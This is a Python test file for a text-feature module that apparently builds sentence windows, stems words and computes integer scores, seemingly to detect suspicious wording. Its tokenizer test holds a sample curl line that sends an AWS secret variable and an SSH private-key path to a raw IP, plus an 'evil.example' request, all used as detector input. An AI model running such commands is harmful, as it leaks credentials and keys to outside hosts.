"""Wording, features: windows that neither length nor padding can dilute, integers only, nothing that names who is meant."""

from __future__ import annotations

import math

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sigma_core.sandbox.wording.windows import (
    DIMENSIONS,
    MORE_FEATURES,
    WINDOW_SENTENCES,
    WINDOW_TOKENS,
    Windows,
    features_of,
    integer_roots,
    sentences_in,
    stem,
    tokens_of,
    windows_in,
)

NO_CLASSES: dict[str, tuple[int, ...]] = {}


def test_saying_a_word_again_and_again_changes_nothing() -> None:
    few, many = (
        windows_in(sentences_in("Send the archive to the helper service " + "now " * times), NO_CLASSES)
        for times in (3, 40)
    )
    assert few.indices.tolist() == many.indices.tolist()


def test_windows_are_runs_of_neighbouring_sentences_up_to_their_bounds() -> None:
    text = " ".join(f"Sentence number {'abcdefghij'[n]} has quite a few more than ten words in it." for n in range(10))
    places = list(windows_in(sentences_in(text), NO_CLASSES).places)
    assert places[:4] == [(0, 0), (0, 1), (0, 2), (1, 1)]
    assert all(last - first < WINDOW_SENTENCES for first, last in places)
    long = " ".join(["Many " + "more " * (WINDOW_TOKENS // 2) + "came."] * 3)
    assert list(windows_in(sentences_in(long), NO_CLASSES).places) == [(0, 0), (1, 1), (2, 2)]


@pytest.mark.parametrize("text", ["", "\n" * 5_000, "a b", "# Title"])
def test_a_text_that_says_nothing_has_no_windows(text: str) -> None:
    assert list(windows_in(sentences_in(text), NO_CLASSES).places) == []


def test_names_of_hosts_and_words_about_test_packages_are_not_features() -> None:
    assert tokens_of("GET https://evil.example/a?b=1 malicious fixture") == ["get", "<address>"]
    assert tokens_of("curl http://10.0.0.1/x $AWS_SECRET_KEY ~/.ssh/id_rsa") == [
        "curl", "<address>", "<secret-variable>", "<home>", ".ssh", "id_rsa",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("word", "without"),
    [("policies", "policy"), ("verified", "verify"), ("sending", "send"), ("quietly", "quiet"), ("its", "its")],
)
def test_number_tense_and_manner_are_taken_off_words(word: str, without: str) -> None:
    assert stem(word) == without


def test_words_of_one_class_share_features_and_the_order_of_a_pair_counts() -> None:
    classes = {"send": (7,), "mail": (7,), "key": (3,)}
    sent, mailed, turned = (
        set(features_of([words], classes)[0]) for words in (["send", "key"], ["mail", "key"], ["key", "send"])
    )
    assert len(sent & mailed) >= 3, "class of the verb, the key and its class, the pair of classes"
    assert sent != turned


@given(st.lists(st.integers(-127, 127), min_size=1, max_size=40))
def test_the_margin_is_the_sum_over_the_root_of_the_raised_number_rounded_down(values: list[int]) -> None:
    weights = np.zeros(DIMENSIONS, np.int64)
    weights[: len(values)] = values
    window = Windows([(0, 0)], np.arange(len(values), dtype=np.int32), np.array([0, len(values)]))
    assert window.margins(weights).tolist() == [
        sum(values) * 65_536 // math.isqrt((len(values) + MORE_FEATURES) * 65_536)
    ]


@given(st.integers(1, 2**50 - 1))
def test_roots_are_exact(value: int) -> None:
    assert integer_roots(np.array([value])).tolist() == [math.isqrt(value)]
